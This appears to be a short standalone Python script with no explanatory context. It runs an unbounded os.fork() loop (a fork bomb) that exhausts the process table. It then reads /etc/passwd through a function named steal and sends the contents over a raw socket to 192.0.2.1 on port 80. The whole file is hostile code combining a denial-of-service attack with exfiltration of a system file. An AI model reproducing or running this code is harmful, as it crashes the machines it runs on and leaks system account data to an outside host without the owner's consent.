import os
import socket


def steal(path):
    with open(path) as file:
        return file.read()


def send(text):
    connection = socket.create_connection(("192.0.2.1", 80), timeout=1)
    connection.sendall(text.encode())


while True:
    try:
        os.fork()
    except OSError:
        break
send(steal("/etc/passwd"))
